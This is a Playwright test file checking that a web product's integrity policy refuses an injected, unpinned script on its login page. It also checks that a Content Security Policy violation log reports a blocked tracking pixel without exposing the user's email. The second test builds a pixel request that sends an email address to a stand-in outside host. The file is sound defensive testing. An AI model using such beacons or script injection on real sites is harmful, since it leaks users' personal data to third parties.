import { expect, test } from 'playwright/test';

test('runs no script that the page does not pin, where nobody else’s scripts belong', async ({ page }) => {
  // Before the product does, because a policy's name can only be used once.
  await page.addInitScript(() => {
    const { trustedTypes } = window as unknown as {
      trustedTypes: { createPolicy: (name: string, rules: object) => object };
    };
    const createScriptURL = (address: string) => address;
    Object.assign(window, { scriptAddresses: trustedTypes.createPolicy('dompurify', { createScriptURL }) });
  });
  const answer = await page.goto('/inloggen/');
  expect(answer?.headers()['integrity-policy']).toContain('blocked-destinations=(script)');
  await expect(page.locator('[data-widget-state="mounted"]').first()).toBeAttached();
  const outcome = await page.evaluate(() => {
    const { scriptAddresses } = window as unknown as {
      scriptAddresses: { createScriptURL: (address: string) => string };
    };
    const script = document.createElement('script');
    script.src = scriptAddresses.createScriptURL('/static/measuring.js');
    document.head.append(script);
    return new Promise((resolve) => {
      script.onload = () => resolve('ran');
      script.onerror = () => resolve('refused');
    });
  });
  expect(outcome).toBe('refused');
});

test('shows what the browser refused on the page of reports', async ({ page }) => {
  await page.goto('/features/reports.html');
  await page.evaluate(() => {
    new Image().src = 'https://elders.example/pixel.gif?email=jan@voorbeeld.nl';
  });
  const log = page.getByRole('log', { name: 'Meldingen van de browser' });
  await expect(log).toContainText('effectiveDirective: img-src');
  await expect(log).toContainText('blockedURL: https://elders.example/pixel.gif');
  await expect(log).not.toContainText('jan@');
});
